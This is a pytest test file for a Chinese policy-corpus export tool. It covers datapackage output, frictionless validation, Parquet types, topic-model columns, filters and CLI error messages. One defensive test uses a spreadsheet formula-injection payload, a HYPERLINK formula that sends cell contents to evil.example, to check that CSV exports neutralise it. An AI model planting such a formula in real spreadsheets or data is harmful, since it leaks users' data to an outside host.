"""Export folders (issue 15 finding 5, issue 13 findings 6, 8, 9): one datapackage for every file,
a topic run's shares and θ, the model's own tokens in the R file, typed Parquet, ``frictionless
validate``, filters checked against the store, one-line errors, formulas defused."""

from __future__ import annotations

import csv
import json
import subprocess
import sys
from pathlib import Path

import pytest

from zhengce.common.errors import UserError
from zhengce.corpus.export import ExportFilter, export_documents, parse_years
from zhengce.corpus.loaders import load_path
from zhengce.corpus.store import Store

FIX = Path(__file__).resolve().parents[1] / "fixtures" / "corpus"


def _cli(*args):
    return subprocess.run([sys.executable, "-m", "zhengce", *args], capture_output=True, text=True)


def _read_csv(path):
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def _package(folder):
    return json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))


def frictionless_validate(folder: Path) -> dict:
    """``frictionless validate datapackage.json`` in ``folder``, as its JSON report."""
    res = subprocess.run([sys.executable, "-m", "frictionless", "validate", "datapackage.json",
                          "--json"], capture_output=True, text=True, cwd=folder)
    report = json.loads(res.stdout)
    errors = [(t["name"], e["type"], e.get("fieldName"), e["note"][:120])
              for t in report["tasks"] for e in t["errors"][:5]]
    assert report["valid"] and res.returncode == 0, errors
    return report


@pytest.fixture
def loaded(store):
    load_path(store, FIX / "pkulaw_sample.csv", mapping="pkulaw", progress=False)
    load_path(store, FIX / "gbk_sample.csv", progress=False)
    return store


@pytest.fixture(scope="module")
def run_store(tmp_path_factory):
    """120 demo documents and a real (short) seeded-LDA topic run with its token cache."""
    pytest.importorskip("gensim")
    from zhengce.corpus.demo import write_demo_corpus
    from zhengce.nlp.topics.stage import TopicsConfig, run_topics

    folder = tmp_path_factory.mktemp("run")
    write_demo_corpus(folder / "src", n_documents=120, random_state=0)
    store = Store.open(folder / "demo.db")
    load_path(store, folder / "src" / "documents.jsonl", mapping="demo", progress=False)
    result = run_topics(store, TopicsConfig(model="seeded_lda", ldavis=False, passes=3,
                                            iterations=30, n_jobs=1,
                                            out_dir=str(folder / "topics")))
    yield store, result.run_ids[0], folder / "demo.db"
    store.close()


# -- one folder, one package -----------------------------------------------------------------

def test_a_second_export_adds_to_the_folder_package(loaded, tmp_path):
    export_documents(loaded, tmp_path, name="central", flt=ExportFilter(levels=["central"]))
    export_documents(loaded, tmp_path, fmt="parquet", name="local", flt=ExportFilter(levels=["local"]))
    package = _package(tmp_path)
    assert [(r["name"], r["path"], r["x-rows"]) for r in package["resources"]] == \
        [("central", "central.csv", 1), ("local", "local.parquet", 2)]
    codebook = (tmp_path / "codebook.md").read_text(encoding="utf-8")
    assert "## central.csv (csv, 1 rows)" in codebook and "## local.parquet (parquet, 2 rows)" in codebook
    listed = {row["resource"] for row in _read_csv(tmp_path / "codebook.csv")}
    assert listed == {"central", "local"}
    # the same file again: refused, the folder untouched; --force replaces that entry only
    with pytest.raises(UserError, match=r"already holds central.csv from an earlier export: give "
                                        r"--name NAME .* or --force to replace it"):
        export_documents(loaded, tmp_path, name="central")
    assert len(_read_csv(tmp_path / "central.csv")) == 1
    export_documents(loaded, tmp_path, name="central", force=True)
    assert [(r["name"], r["x-rows"]) for r in _package(tmp_path)["resources"]] == \
        [("local", 2), ("central", 4)]
    frictionless_validate(tmp_path)


def test_every_format_validates_with_frictionless(loaded, tmp_path):
    for fmt in ("csv", "jsonl", "parquet"):
        export_documents(loaded, tmp_path, fmt=fmt, name=f"all_{fmt}")
    export_documents(loaded, tmp_path, name="stm", r_friendly=True)
    report = frictionless_validate(tmp_path)
    assert [(t["name"], t["stats"]["rows"]) for t in report["tasks"]] == \
        [("all_csv", 4), ("all_jsonl", 4), ("all_parquet", 4), ("stm", 4)]


def test_parquet_has_real_types(loaded, tmp_path):
    import datetime

    import pyarrow as pa
    import pyarrow.parquet as pq

    export_documents(loaded, tmp_path, fmt="parquet")
    table = pq.read_table(tmp_path / "documents.parquet")
    schema = table.schema
    assert schema.field("issued_date").type == pa.date32()
    assert schema.field("year").type == pa.int64() and schema.field("doc_number_year").type == pa.int64()
    assert schema.field("sectors").type == pa.list_(pa.string())
    assert schema.field("issuers").type == pa.list_(pa.string())
    rows = {r["title"]: r for r in table.to_pylist()}
    central = rows["国务院关于加快振兴装备制造业的若干意见"]
    assert central["published_date"] == datetime.date(2006, 2, 13) and central["issued_date"] is None
    assert rows["杭州市人民政府关于加快集成电路产业发展的实施意见"]["issued_date"] == datetime.date(2014, 6, 3)
    assert (central["doc_number_year"], central["doc_number_serial"]) == (2006, 8)   # 国发〔2006〕8号
    assert central["issuers"] == ["国务院"]
    stored = loaded.db.execute("select count(*) from documents where doc_number_year is null").fetchone()[0]
    assert stored >= 1 and table.column("doc_number_year").null_count == stored   # nulls stay null


# -- a topic run's measures ------------------------------------------------------------------

def test_run_adds_shares_and_theta(run_store, tmp_path):
    store, run_id, _ = run_store
    result = export_documents(store, tmp_path, run_id=run_id)
    rows = _read_csv(tmp_path / "documents.csv")
    measured = store.db.execute("select count(distinct doc_id) from doc_topics where run_id = ?",
                                [run_id]).fetchone()[0]
    assert result["rows"] == len(rows) == measured == 120
    topics = [t for (t,) in store.db.execute(
        "select distinct topic from doc_topics where run_id = ? order by topic", [run_id])]
    categories = [c for (c,) in store.db.execute(
        "select distinct category from strategy_shares where run_id = ? order by category", [run_id])]
    assert categories == ["developmental", "directive", "other", "regulatory"]
    header = list(rows[0])
    assert header[-len(topics) - len(categories):] == \
        [f"share_{c}" for c in categories] + [f"theta_{t}" for t in topics]
    doc = rows[7]
    theta = dict(store.db.execute("select topic, weight from doc_topics where run_id = ? and doc_id = ?",
                                  [run_id, doc["doc_id"]]).fetchall())
    assert {t: float(doc[f"theta_{t}"]) for t in topics} == pytest.approx(theta, abs=1e-12)
    share = store.db.execute("select share from strategy_shares where run_id = ? and doc_id = ? "
                             "and category = 'regulatory'", [run_id, doc["doc_id"]]).fetchone()[0]
    assert float(doc["share_regulatory"]) == pytest.approx(share, abs=1e-12)
    assert sum(float(doc[f"theta_{t}"]) for t in topics) == pytest.approx(1.0, abs=1e-9)
    package = _package(tmp_path)
    assert package["resources"][0]["x-zhengce"]["run_id"] == run_id
    with pytest.raises(UserError, match="is not a topic run of this database; topic runs: " + run_id):
        export_documents(store, tmp_path, name="other", run_id="nope")


def test_r_export_carries_the_models_tokens_and_stopwords(run_store, tmp_path):
    from zhengce.nlp.text.segment import Segmenter

    store, run_id, _ = run_store
    export_documents(store, tmp_path, r_friendly=True, run_id=run_id)
    rows = _read_csv(tmp_path / "documents_r.csv")
    assert "tokens" in rows[0] and "segmented_text" not in rows[0] and "text" not in rows[0]
    config_hash = json.loads(store.db.execute("select params from runs where run_id = ?",
                                              [run_id]).fetchone()[0])["config_hash"]
    cached = dict(store.db.execute("select doc_id, tokens from tokens where config_hash = ?",
                                   [config_hash]).fetchall())
    assert {r["doc_id"]: r["tokens"] for r in rows} == {d: cached[d] for d in (r["doc_id"] for r in rows)}
    words = [r["word"] for r in _read_csv(tmp_path / "documents_r_stopwords.csv")]
    assert words == sorted(Segmenter().stopwords)           # the default list the run used
    assert "的" in words
    assert sum(r["tokens"].split().count("的") for r in rows) == 0
    # the search index's words (the old R export) keep 的
    export_documents(store, tmp_path, name="index_words", r_friendly=True)
    index_rows = _read_csv(tmp_path / "index_words.csv")
    assert sum(r["segmented_text"].split().count("的") for r in index_rows) > 0
    names = [r["name"] for r in _package(tmp_path)["resources"]]
    assert names == ["documents_r", "documents_r_stopwords", "index_words"]
    frictionless_validate(tmp_path)


def test_run_packages_validate_in_every_format(run_store, tmp_path):
    store, run_id, _ = run_store
    for fmt in ("csv", "jsonl", "parquet"):
        export_documents(store, tmp_path, fmt=fmt, name=f"run_{fmt}", run_id=run_id)
    report = frictionless_validate(tmp_path)
    assert [t["stats"]["rows"] for t in report["tasks"]] == [120, 120, 120]


# -- filters ---------------------------------------------------------------------------------

def _titles(store, folder, name, **flt):
    export_documents(store, folder, name=name, flt=ExportFilter(**flt))
    return sorted(r["title"] for r in _read_csv(folder / f"{name}.csv"))


def test_names_are_accepted_and_unknown_values_list_the_valid_ones(loaded, tmp_path):
    from zhengce.corpus.reference import build_reference_tables

    build_reference_tables(loaded)
    state_council = ["国务院关于加快振兴装备制造业的若干意见"]
    assert _titles(loaded, tmp_path, "a1", agencies=["国务院"]) == state_council
    assert _titles(loaded, tmp_path, "a2", agencies=["state_council"]) == state_council
    with pytest.raises(UserError, match=r"--agency '不存在的部门' is no agency id, name or alias; "
                                        r"agencies of this corpus: .*state_council \(国务院\)"):
        export_documents(loaded, tmp_path, name="x", flt=ExportFilter(agencies=["不存在的部门"]))
    chips = ["杭州市人民政府关于加快集成电路产业发展的实施意见"]   # the one document tagged 3973
    assert _titles(loaded, tmp_path, "s1", sectors=["3973"]) == chips
    assert _titles(loaded, tmp_path, "s2", sectors=["semiconductors"]) == chips
    assert _titles(loaded, tmp_path, "s3", sectors=["集成电路制造"]) == chips
    assert _titles(loaded, tmp_path, "s4", sectors=["automotive"]) == []   # a known set, no documents
    with pytest.raises(UserError, match=r"--sector 'cars' is no GB/T 4754 code, sector name or "
                                        r"sector set; sets: automotive, semiconductors"):
        export_documents(loaded, tmp_path, name="x", flt=ExportFilter(sectors=["cars"]))
    with pytest.raises(UserError, match=r"--doc-type '公告': not in this corpus; values: .*意见"):
        export_documents(loaded, tmp_path, name="x", flt=ExportFilter(doc_types=["公告"]))
    assert not (tmp_path / "x.csv").exists()


def test_wildcards_are_ordinary_characters(loaded, tmp_path):
    zhejiang = _titles(loaded, tmp_path, "zj", regions=["浙江"])
    assert zhejiang == sorted(["杭州市人民政府关于加快集成电路产业发展的实施意见",
                               "浙江省人民政府关于进一步加快发展装备制造业的若干意见"])
    for pattern in ("%", "_", "浙%", "3%"):
        with pytest.raises(UserError, match=rf"--region '{pattern}' matches no document's province"):
            export_documents(loaded, tmp_path, name="w", flt=ExportFilter(regions=[pattern]))
    with pytest.raises(UserError, match=r"--sector '%' is no GB/T 4754 code"):
        export_documents(loaded, tmp_path, name="w", flt=ExportFilter(sectors=["%"]))


@pytest.mark.parametrize("text, message", [
    ("2010-1995", "--years '2010-1995': FROM is after TO; write 1995-2010"),
    ("99999999999999999999999-1", "--years '99999999999999999999999-1': 99999999999999999999999 "
                                  "is not a year; write FROM-TO with four-digit years, e.g. 1995-2010"),
    ("1995-20100", "--years '1995-20100': 20100 is not a year"),
    ("last decade", "--years 'last decade': write it as FROM-TO, e.g. 1995-2010"),
])
def test_bad_years_are_user_errors(text, message):
    with pytest.raises(UserError) as info:
        parse_years(text)
    assert str(info.value).startswith(message)


def test_open_year_ranges():
    assert parse_years("1995-2010") == (1995, 2010)
    assert parse_years("1995-") == (1995, None)
    assert parse_years("-2010") == (None, 2010)
    assert parse_years("2006") == (2006, 2006)


def test_cli_mistakes_are_one_line_with_exit_2(tmp_path):
    db = str(tmp_path / "e.db")
    assert _cli("load", str(FIX / "pkulaw_sample.csv"), "--mapping", "pkulaw", "--db", db).returncode == 0
    a_file = tmp_path / "taken.csv"
    a_file.write_text("x", encoding="utf-8")
    cases = [
        (["--years", "2010-1995"], "Error: --years '2010-1995': FROM is after TO; write 1995-2010"),
        (["--years", "99999999999999999999999-1"],
         "Error: --years '99999999999999999999999-1': 99999999999999999999999 is not a year; write "
         "FROM-TO with four-digit years, e.g. 1995-2010"),
        (["--out", str(a_file)], f"Error: --out {a_file} is a file: give a folder (the export writes "
                                 "data, codebook and datapackage.json into it)"),
        (["--datasette", str(tmp_path)], f"Error: --datasette {tmp_path} is a folder: give a file, "
                                         f"e.g. {tmp_path / 'metadata.json'}"),
        (["--out", str(a_file / "sub")], f"Error: --out {a_file / 'sub'}: cannot create the folder "
                                          "(Not a directory); choose another place"),
        (["--name", "中央"], "Error: --name '中央': use lower-case letters, digits, - and _ (it names "
                            "the file and its entry in datapackage.json), e.g. central_2006"),
    ]
    for extra, line in cases:
        args = ["export", "--db", db, *extra]
        if "--out" not in extra:
            args += ["--out", str(tmp_path / "out")]
        res = _cli(*args)
        assert res.returncode == 2, (extra, res.stderr)
        assert res.stderr.strip().splitlines() == [line]
    # the old positional form is gone: --out DIR
    res = _cli("export", str(tmp_path / "old.csv"), "--db", db)
    assert res.returncode == 2 and "Missing option '--out'" in res.stderr
    res = _cli("export", "--out", str(tmp_path / "ok"), "--db", db, "--agency", "国务院")
    assert res.returncode == 0, res.stderr
    assert res.stdout.startswith(f"exported 1 documents to {tmp_path / 'ok' / 'documents.csv'}")
    res = _cli("export", "--out", str(tmp_path / "ok"), "--db", db, "--r")
    assert res.returncode == 0, res.stderr
    assert res.stdout.splitlines()[-1] == (
        "note: segmented_text holds the search index's words, stopwords kept; give --run RUN for "
        "the topic model's own tokens and its stopword list")


# -- safe outputs ----------------------------------------------------------------------------

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def test_csv_cells_are_defused_and_the_store_keeps_the_raw_text(tmp_path):
    src = tmp_path / "hostile.jsonl"
    rows = [{"id": "h1", "title": HOSTILE, "text": "+1 关于出口退税的通知。", "issuer": "@国务院"},
            {"id": "h2", "title": "-2 号文件", "text": "\t制表符开头的正文。"}]
    src.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
    store = Store.open(tmp_path / "h.db")
    load_path(store, src, progress=False)
    export_documents(store, tmp_path / "csv")
    export_documents(store, tmp_path / "json", fmt="jsonl")
    cells = {r["source_id"]: r for r in _read_csv(tmp_path / "csv" / "documents.csv")}
    assert cells["h1"]["title"] == "'" + HOSTILE
    assert cells["h1"]["text"] == "'+1 关于出口退税的通知。"
    assert cells["h2"]["title"] == "'-2 号文件" and cells["h2"]["text"] == "'\t制表符开头的正文。"
    raw = {json.loads(line)["source_id"]: json.loads(line)
           for line in (tmp_path / "json" / "documents.jsonl").read_text(encoding="utf-8").splitlines()}
    assert raw["h1"]["title"] == HOSTILE                     # JSONL is not a spreadsheet
    stored = dict(store.db.execute("select source_id, title from documents").fetchall())
    assert stored["h1"] == HOSTILE
    assert "leading apostrophe" in (tmp_path / "csv" / "codebook.md").read_text(encoding="utf-8")
    store.close()


@pytest.mark.shared
@pytest.mark.slow
def test_lawrefbook_packages_validate(lawrefbook_path, tmp_path):
    """Issue 15: the Parquet package of LawRefBook failed `frictionless validate` (6,036 errors)."""
    store = Store.open(tmp_path / "lrb.db")
    load_path(store, lawrefbook_path, progress=False)
    export_documents(store, tmp_path / "out", fmt="parquet")
    export_documents(store, tmp_path / "out", fmt="csv", name="documents_csv")
    report = frictionless_validate(tmp_path / "out")
    assert [t["stats"]["rows"] for t in report["tasks"]] == [3284, 3284]
    store.close()


@pytest.mark.shared
@pytest.mark.slow
def test_lawrefbook_sample_with_a_run_validates(lawrefbook_path, tmp_path):
    """Real law texts with a real topic run (the first 600 laws keep it near 25 s; the whole
    corpus with --run validates too, but its topic run alone takes about a minute)."""
    import gzip
    import itertools

    pytest.importorskip("gensim")
    from zhengce.nlp.topics.stage import TopicsConfig, run_topics

    sample = tmp_path / "lawrefbook_600.jsonl.gz"
    with gzip.open(lawrefbook_path, "rt", encoding="utf-8") as fh, \
            gzip.open(sample, "wt", encoding="utf-8") as out:
        n = sum(out.write(line) > 0 for line in itertools.islice(fh, 600))
    store = Store.open(tmp_path / "law.db")
    load_path(store, sample, progress=False)
    run_id = run_topics(store, TopicsConfig(model="seeded_lda", ldavis=False, passes=2, iterations=30,
                                            n_jobs=1, out_dir=str(tmp_path / "topics"))).run_ids[0]
    for fmt in ("parquet", "csv"):
        export_documents(store, tmp_path / "out", fmt=fmt, name=f"law_{fmt}", run_id=run_id)
    export_documents(store, tmp_path / "out", r_friendly=True, run_id=run_id)
    report = frictionless_validate(tmp_path / "out")
    assert [(t["name"], t["stats"]["rows"]) for t in report["tasks"]][:3] == \
        [("law_parquet", n), ("law_csv", n), ("documents_r", n)]
    assert n == 600
    store.close()
